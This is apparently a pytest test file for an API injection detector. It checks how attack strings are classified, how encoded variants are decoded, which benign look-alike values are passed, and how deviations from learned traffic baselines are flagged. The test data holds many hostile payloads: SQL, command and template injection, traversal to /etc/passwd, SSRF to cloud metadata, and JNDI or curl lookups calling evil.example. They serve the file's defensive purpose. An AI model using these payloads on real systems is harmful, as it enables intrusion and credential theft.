from __future__ import annotations

from apiward.state import codec

import pytest

from apiward.detect.injection import InjectionPayload, classify_value, decode_value
from apiward.detect.registry import detector_class
from apiward.learn.baselines import Baselines
from apiward.model.context import Context, EndpointRef
from apiward.testing import make_call

EP = EndpointRef(host="api.example.com", method="GET", template="/search")


@pytest.mark.parametrize(
    ("value", "technique"),
    [
        ("1' OR '1'='1", "sqli"),
        ("x'; DROP TABLE users; --", "sqli"),
        ("1 union all select null,null--", "sqli"),
        ("1) and sleep(5)#", "sqli"),
        ('{"$ne": null}', "nosqli"),
        ("'; return this.password == 'x'; var a='", "nosqli"),
        ("<script>alert(document.cookie)</script>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("javascript:alert(1)", "xss"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("; cat /etc/passwd", "cmdi"),
        ("| whoami", "cmdi"),
        ("$(curl http://evil.example/x.sh)", "cmdi"),
        ("http://169.254.169.254/latest/meta-data/iam/", "ssrf"),
        ("http://localhost:6379/", "ssrf"),
        ("http://[::1]/admin", "ssrf"),
        ("gopher://127.0.0.1:25/_HELO", "ssrf"),
        ("http://2130706433/", "ssrf"),
        ("${jndi:ldap://evil.example/a}", "jndi"),
        ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", "jndi"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "jndi"),
        ("{{7*7}}", "ssti"),
        ("${7*7}", "ssti"),
        ("<%= system('id') %>", "ssti"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "ssti"),
        ("abc\r\nSet-Cookie: admin=1", "crlf"),
        ("1234\nINFO: user admin logged in", "crlf"),
        ("A" * 5000, "overflow"),
        ("%n%n%n%n%n%s", "overflow"),
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC", "deserialization"),
        ("gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "deserialization"),
    ],
)
def test_each_technique_is_classified(value: str, technique: str) -> None:
    got, ev = classify_value(value)
    assert got == technique, (value, got, ev)
    assert ev["cwe"].startswith("CWE-")


@pytest.mark.parametrize(
    ("encoded", "technique"),
    [
        ("%27%20OR%20%271%27%3D%271", "sqli"),
        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "xss"),  # double-encoded
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),
        ("&#60;svg onload=alert(1)&#62;", "xss"),
        ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "xss"),
        ("%u003cscript%u003ealert(1)", "xss"),
        ("..%2f..%2f..%2fetc%2fpasswd", "traversal"),
        ("%2e%2e%5c%2e%2e%5cboot.ini", "traversal"),
        ("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", "traversal"),
        ("1'+or+'1'%3D'1", "sqli"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "jndi"),
        ("abc%0d%0aLocation:%20http://evil", "crlf"),
    ],
)
def test_encoded_variants_are_decoded(encoded: str, technique: str) -> None:
    got, ev = classify_value(encoded)
    assert got == technique
    assert ev["decoded"] is True


@pytest.mark.parametrize(
    ("value", "location", "name"),
    [
        ("O'Reilly", "query", "last_name"),
        ("Shaquille O'Neal", "body", "name"),
        ("Please select a size from the list", "body", "comment"),
        ("select", "query", "action"),
        ("Drop me a line, or update the order", "body", "message"),
        ("2 * (3 + 4) = 14", "query", "q"),
        ("x^2 + y^2 < 10", "query", "q"),
        ("https://hooks.slack.com/services/T000/B000/XXXX", "body", "webhook_url"),
        ("https://example.com/callback?state=abc&code=123", "body", "callback"),
        ("report.final.v2.pdf", "body", "filename"),
        ("archive.tar.gz", "query", "file"),
        ('{"price": "$12.99", "currency": "USD"}', "body", "payload"),
        ("$12.99", "body", "price"),
        ("Tom & Jerry; the best", "body", "title"),
        ("AT&T; id card", "body", "note"),
        ("C'est la vie (really); fine.", "body", "comment"),
        ("Meeting at 10:30 - room #4", "body", "note"),
        ("She said \"hi\" <3", "body", "comment"),
        ("user@example.com", "query", "email"),
        ("2024-05-01T10:00:00+02:00", "query", "since"),
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 60, "body", "comment"),
        ("First line.\nSecond line: with a colon.\nThird.", "body", "comment"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl", "header", "authorization"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "header", "user-agent"),
        ("10.0.0.1, 203.0.113.9", "header", "x-forwarded-for"),
    ],
)
def test_look_alike_benign_values_are_not_flagged(value: str, location: str, name: str) -> None:
    assert classify_value(value, location, name) == (None, {})


def test_decode_value_is_bounded() -> None:
    v = "%25" * 10 + "41"
    out = decode_value(v)
    assert len(out) <= len(v)  # 4 rounds at most, no blow-up


def _ctx(bl: Baselines | None = None, ref: EndpointRef = EP) -> Context:
    return Context(endpoint=ref, baselines=bl)


def test_detector_metadata_and_registration() -> None:
    cls = detector_class("injection.payload")
    assert cls is InjectionPayload
    det = InjectionPayload()
    assert det.attack == "T1190" and det.tactic == "initial-access" and det.owasp == "API8:2023"
    with pytest.raises(ValueError):
        InjectionPayload(min_profile_score=2.0)


def test_findings_carry_evidence_and_per_technique_tags() -> None:
    det = InjectionPayload()
    c = make_call("GET", "/search?q=%27%20OR%201%3D1--&next=http://169.254.169.254/latest/", user="mallory")
    found = det.score_one(c, _ctx())
    by = {f.evidence["technique"]: f for f in found}
    assert set(by) == {"sqli", "ssrf"}
    sqli = by["sqli"]
    assert sqli.cwe == "CWE-89" and sqli.severity == "high" and sqli.actor == "user:mallory"
    assert sqli.evidence["location"] == "query" and sqli.evidence["parameter"] == "q"
    assert sqli.evidence["value"] == "' OR 1=1--"
    assert "fingerprint" in sqli.evidence or "pattern" in sqli.evidence
    assert by["ssrf"].owasp == "API7:2023" and by["ssrf"].cwe == "CWE-918"


def test_every_location_is_looked_at() -> None:
    det = InjectionPayload()
    cases = [
        make_call("POST", "/search", req_json={"filter": {"name": {"$ne": None}}}),
        make_call("GET", "/search?user[$gt]="),
        make_call("POST", "/search", req_json={"items": [{"note": "<script>alert(1)</script>"}]}),
        make_call("POST", "/search", req_body=b"a=1&b=%3Bcat+%2Fetc%2Fpasswd", headers={"content-type": "application/x-www-form-urlencoded"}),
        make_call("GET", "/search", headers={"cookie": "pref=' or 1=1--"}),
        make_call("GET", "/search", headers={"user-agent": "${jndi:ldap://evil/a}"}),
        make_call("GET", "/search", headers={"x-custom-thing": "${jndi:ldap://evil/a}"}),
        make_call("GET", "/search", headers={"referer": "http://x/<script>alert(1)</script>"}),
        make_call("GET", "/static/../../etc/passwd"),
    ]
    locs = []
    for c in cases:
        found = det.score_one(c, _ctx())
        assert found, c.request
        locs.append(found[0].evidence["location"])
    assert locs == ["body", "query", "body", "body", "cookie", "header", "header", "header", "path"]


def test_path_parameters_are_scanned() -> None:
    ref = EndpointRef(host="api.example.com", method="GET", template="/greet/{name}", path_params=(("name", "{{7*7}}"),))
    found = InjectionPayload().score_one(make_call("GET", "/greet/%7B%7B7*7%7D%7D"), _ctx(ref=ref))
    assert found and found[0].evidence["technique"] == "ssti" and found[0].cwe == "CWE-94"


WORDS = "shoes boots socks hats coats scarves gloves belts bags shirts jeans skirts dresses suits ties".split()


def _learned(n: int = 300) -> Baselines:
    bl = Baselines()
    for i in range(n):
        q = f"{WORDS[i % 15]}+size+{i % 13}"
        c = make_call("GET", f"/search?q={q}&page={i % 9}&sort={'asc' if i % 2 else 'desc'}", user=f"u{i % 40}")
        bl.learn_one(c, _ctx(bl))
    return bl


def test_out_of_profile_values_are_caught_with_reasons() -> None:
    bl = _learned()
    det = InjectionPayload()
    benign = make_call("GET", "/search?q=boots+size+4&page=3&sort=asc", user="u1")
    assert det.score_one(benign, _ctx(bl)) == []
    # Not a textbook payload, but nothing like what this parameter takes
    # (request-only data: judged at once, see the deferral tests for 2xx).
    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc", user="u1", status=None)
    found = det.score_one(odd, _ctx(bl))
    assert found and found[0].evidence["technique"] == "profile"
    assert found[0].evidence["parameter"] == "sort" and found[0].evidence["reasons"]
    unseen = det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="u1", status=400), _ctx(bl))
    assert unseen and unseen[0].evidence["reasons"] == ["unseen parameter"]


def test_profiles_can_be_switched_off() -> None:
    bl = _learned()
    det = InjectionPayload(profiles=False)
    assert det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=zzz&isAdmin=1", user="u1"), _ctx(bl)) == []


def test_unseen_endpoints_on_a_settled_api_and_file_probes() -> None:
    bl = _learned(1500)
    det = InjectionPayload()
    other = EndpointRef(host=EP.host, method="GET", template="/admin/export")
    found = det.score_one(make_call("GET", "/admin/export", status=404), _ctx(bl, other))
    assert found and found[0].evidence["technique"] == "unseen_endpoint" and found[0].tactic == "reconnaissance"
    probe = EndpointRef(host=EP.host, method="GET", template="/search.bak")
    found = det.score_one(make_call("GET", "/search.bak"), _ctx(bl, probe))
    assert found and found[0].evidence["technique"] == "probe"
    # A young API still adding endpoints: no unseen-endpoint noise.
    young = Baselines()
    for i in range(400):
        ref = EndpointRef(host="h", method="GET", template=f"/r{i % 200}")
        young.learn_one(make_call("GET", f"/r{i % 200}", host="h"), _ctx(young, ref))
    assert det.score_one(make_call("GET", "/new", host="h"), _ctx(young, EndpointRef(host="h", template="/new"))) == []


def test_score_before_any_learning_and_odd_input_is_safe() -> None:
    det = InjectionPayload()
    c = make_call("POST", "/x", req_body=b"\xff\xfe{not json", headers={"content-type": "application/json"}, status=None)
    assert det.score_one(c, _ctx(Baselines())) == []
    det.learn_one(c, _ctx())
    deep: dict = {}
    cur = deep
    for _ in range(50):
        cur["a"] = {}
        cur = cur["a"]
    assert det.score_one(make_call("POST", "/x", req_json=deep), _ctx()) == []


def test_deterministic_survives_the_state_codec_and_does_not_mutate() -> None:
    bl = _learned()
    det = InjectionPayload()
    c = make_call("GET", "/search?q=%3Cscript%3E&page=1&sort=asc", user="u2")
    before = (list(c.request.query), c.request.path, c.request.body)
    a = [f.key for f in det.score_one(c, _ctx(bl))]
    det2 = codec.loads(codec.dumps(det))
    b = [f.key for f in det2.score_one(c, _ctx(codec.loads(codec.dumps(bl))))]
    assert a == b and a
    assert (list(c.request.query), c.request.path, c.request.body) == before


# -- adapting: served endpoints, deferred profile judgments, secrets -----------------


def test_served_new_endpoint_is_growth_failed_or_unanswered_one_is_a_guess() -> None:
    bl = _learned(1500)
    det = InjectionPayload()
    new = EndpointRef(host=EP.host, method="GET", template="/rewards")
    assert det.score_one(make_call("GET", "/rewards", status=200), _ctx(bl, new)) == []
    export = EndpointRef(host=EP.host, method="GET", template="/users/export")
    assert det.score_one(make_call("GET", "/users/export?limit=200", status=200), _ctx(bl, export)) == []
    for status in (404, 403, 500, None):  # a guess, or request-only data (as today)
        found = det.score_one(make_call("GET", "/rewards", status=status), _ctx(bl, new))
        assert found and found[0].evidence["technique"] == "unseen_endpoint", status
    # A debug endpoint the API serves is still worth a look.
    debug = EndpointRef(host=EP.host, method="GET", template="/internal/debug")
    found = det.score_one(make_call("GET", "/internal/debug", status=200), _ctx(bl, debug))
    assert found and found[0].evidence["technique"] == "unseen_endpoint"


def _stream(det: InjectionPayload, bl: Baselines, calls: list, ref: EndpointRef = EP) -> list:
    """Score then learn each call, as the pipeline does; all findings."""
    out = []
    for c in calls:
        ctx = _ctx(bl, ref)
        out += det.score_one(c, ctx)
        det.learn_one(c, ctx)
        bl.learn_one(c, ctx)
    return out


T0 = 1_764_000_000.0


def _traffic(start: float, n: int, *, extra: str = "", who: int = 40, every: float = 20.0) -> list:
    """Benign search calls from ``who`` users, one every ``every`` seconds."""
    return [
        make_call("GET", f"/search?q={WORDS[i % 15]}+size+{i % 13}&page={i % 9}&sort={'asc' if i % 2 else 'desc'}{extra}",
                  user=f"u{i % who}", ts=start + i * every, id=f"e{start + i * every:.0f}")
        for i in range(n)
    ]


def test_new_parameter_many_actors_adopt_is_the_app_evolving() -> None:
    bl, det = Baselines(), InjectionPayload()
    assert _stream(det, bl, _traffic(T0, 300)) == []
    # A deploy: every client now sends a new parameter; nothing is reported,
    # neither at once nor when the deferral window has passed.
    after = _traffic(T0 + 6000, 400, extra="&lang=en")
    assert _stream(det, bl, after) == []
    assert det._pending == {}


def test_new_parameter_one_actor_sends_is_reported_after_the_window() -> None:
    bl, det = Baselines(), InjectionPayload()
    _stream(det, bl, _traffic(T0, 300))
    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="mallory", ts=T0 + 6010, id="odd#1")
    assert _stream(det, bl, [odd]) == [], "a 2xx deviation waits for other actors"
    later = _traffic(T0 + 6020, 100, every=60.0)  # 100 minutes of others' traffic, none of them sends it
    found = _stream(det, bl, later)
    assert len(found) == 1
    f = found[0]
    assert f.evidence["technique"] == "profile" and f.evidence["reasons"] == ["unseen parameter"]
    assert f.actor == "user:mallory" and f.event_ids == ["odd#1"] and f.first_seen == T0 + 6010
    assert f.evidence["deferred_seconds"] == det.defer_seconds
    # Emitted on the first call at least a window later, not before.
    trigger = next(c for c in later if c.ts >= T0 + 6010 + det.defer_seconds)
    assert _emitted_on(det, bl, later, odd) == trigger.id


def _emitted_on(det: InjectionPayload, bl: Baselines, later: list, odd) -> str:
    """Replay: the id of the call whose scoring emitted the deferred finding."""
    bl2, det2 = Baselines(), InjectionPayload(defer_seconds=det.defer_seconds)
    _stream(det2, bl2, _traffic(T0, 300))
    _stream(det2, bl2, [odd])
    for c in later:
        if _stream(det2, bl2, [c]):
            return c.id
    return ""


def test_new_value_shape_one_actor_is_reported_many_actors_is_not() -> None:
    bl, det = Baselines(), InjectionPayload()
    _stream(det, bl, _traffic(T0, 300))
    # One actor sends sort values of a new shape: reported after the window.
    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=price%3Adesc", user="mallory", ts=T0 + 6010, id="odd#2")
    _stream(det, bl, [odd])
    found = _stream(det, bl, _traffic(T0 + 6020, 100, every=60.0))
    assert [f.event_ids for f in found] == [["odd#2"]] and found[0].evidence["parameter"] == "sort"
    # Many actors adopt another new shape: nothing.
    bl, det = Baselines(), InjectionPayload()
    _stream(det, bl, _traffic(T0, 300))
    adopted = [
        make_call("GET", f"/search?q=boots&page=1&sort=price%3A{'asc' if i % 2 else 'desc'}", user=f"u{i % 40}", ts=T0 + 6010 + i * 30, id=f"a{i}")
        for i in range(200)
    ]
    assert _stream(det, bl, adopted) == []


def test_attack_payloads_are_never_deferred() -> None:
    bl, det = Baselines(), InjectionPayload()
    _stream(det, bl, _traffic(T0, 300))
    atk = make_call("GET", "/search?q=boots%27%20OR%20%271%27%3D%271&page=3&sort=asc", user="mallory", ts=T0 + 6010, id="atk")
    found = _stream(det, bl, [atk])
    assert found and found[0].evidence["technique"] == "sqli"


def test_deviations_are_judged_at_once_without_learning_or_a_2xx() -> None:
    bl = _learned()
    odd = "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc"
    det = InjectionPayload()
    found = det.score_one(make_call("GET", odd, user="u1"), Context(endpoint=EP, baselines=bl, mode="detect"))
    assert found and found[0].evidence["technique"] == "profile"
    assert det.score_one(make_call("GET", odd, user="u1", status=500), _ctx(bl))
    assert InjectionPayload(defer_seconds=0).score_one(make_call("GET", odd, user="u1"), _ctx(bl))


def test_pending_is_bounded_survives_the_state_codec_and_flushes() -> None:
    bl = _learned()
    det = InjectionPayload(max_pending=2)
    for i in range(2):
        assert det.score_one(make_call("GET", f"/search?q=a&page=1&sort=asc&x{i}=1", user=f"m{i}", id=f"p{i}"), _ctx(bl)) == []
    # Full: the oldest is judged at once to make room.
    found = det.score_one(make_call("GET", "/search?q=a&page=1&sort=asc&x2=1", user="m2", id="p2"), _ctx(bl))
    assert [f.event_ids for f in found] == [["p0"]]
    det2 = codec.loads(codec.dumps(det))
    assert sorted(f.event_ids[0] for f in det2.flush(bl)) == ["p1", "p2"]
    assert det2.flush(bl) == []
    # States saved before deferral existed load and work.
    old = InjectionPayload()
    state = {k: v for k, v in old.__dict__.items() if k not in ("_pending", "_next_due", "defer_seconds", "defer_calls", "max_pending")}
    revived = InjectionPayload.__new__(InjectionPayload)
    revived.__setstate__(state)
    assert revived.score_one(make_call("GET", "/search?q=a&page=1&sort=asc&x9=1", user="m9"), _ctx(bl)) == []
    with pytest.raises(ValueError):
        InjectionPayload(defer_seconds=-1)


LOGIN = EndpointRef(host=EP.host, method="POST", template="/auth/login")


def _logins() -> tuple[Baselines, InjectionPayload]:
    import random

    rng = random.Random(3)
    chars = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    bl, det = Baselines(), InjectionPayload()
    calls = []
    for i in range(400):
        pw = "".join(rng.choice(chars) for _ in range(rng.randint(8, 14))) + ("!" if i % 4 == 0 else "")
        calls.append(make_call("POST", "/auth/login", req_json={"email": f"user{i % 150}@example.com", "password": pw},
                               ip=f"198.51.100.{i % 150}", ts=T0 + i * 30, id=f"l{i}"))
    assert _stream(det, bl, calls, LOGIN) == []
    return bl, det


@pytest.mark.parametrize("pw", ["S%zqv*PCaay5q", "EQW6FR86Eof%BL#", "123123", "aa123456", "Z&i#URWBScx", "NBFQ#*&%rM"])
def test_passwords_are_not_judged_by_character_class(pw: str) -> None:
    bl, det = _logins()
    for status in (200, 401):  # deferred or judged at once, the verdict is the same
        c = make_call("POST", "/auth/login", req_json={"email": "user7@example.com", "password": pw}, ip="203.0.113.9", ts=T0 + 20000, status=status)
        assert det.score_one(c, _ctx(bl, LOGIN)) == [] and det.flush(bl) == []


@pytest.mark.parametrize(
    ("pw", "technique"),
    [("' OR '1'='1", "sqli"), ("x'; DROP TABLE users; --", "sqli"), ("${jndi:ldap://evil.example/a}", "jndi"), ("A" * 400, "profile")],
)
def test_attacks_in_a_password_field_still_fire(pw: str, technique: str) -> None:
    bl, det = _logins()
    c = make_call("POST", "/auth/login", req_json={"email": "user7@example.com", "password": pw}, ip="203.0.113.9", ts=T0 + 20000, status=401)
    found = det.score_one(c, _ctx(bl, LOGIN))
    assert found and found[0].evidence["technique"] == technique
